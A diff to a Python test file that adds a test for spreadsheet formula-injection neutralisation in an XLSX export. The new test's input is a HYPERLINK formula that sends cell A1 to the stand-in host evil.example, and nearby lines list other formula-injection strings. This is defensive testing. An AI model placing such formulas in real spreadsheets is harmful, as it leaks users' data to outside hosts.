@@ -133,3 +133,11 @@ def test_installed_script_neutralises_hostile_nip_name_and_unit(tmp_path):
         assert all(_safe(cell) for cell in where)
         assert {"'=HYPERLINK(\"http://x\",\"y\")", "'+1+1", "'@SUM(A1:A9)", "'-Dinas Rahasia",
                 "'+6281234", "'-Budi"} <= set(where)
+
+
+def test_a_trailing_carriage_return_survives_the_workbook(tmp_path):
+    """Tests a name ending in CR: neutralised, and kept whole (xml:space is judged on the
+    text, not on its escaped `&#13;`), as Hypothesis once found."""
+    name = '=HYPERLINK("http://evil.example/?x="&A1,"klik")\r'
+    write_xlsx(_result([("=H0", name, "=u", "=s")]), tmp_path / "j.xlsx")
+    assert neutralise(name) in _xlsx_texts(tmp_path / "j.xlsx")
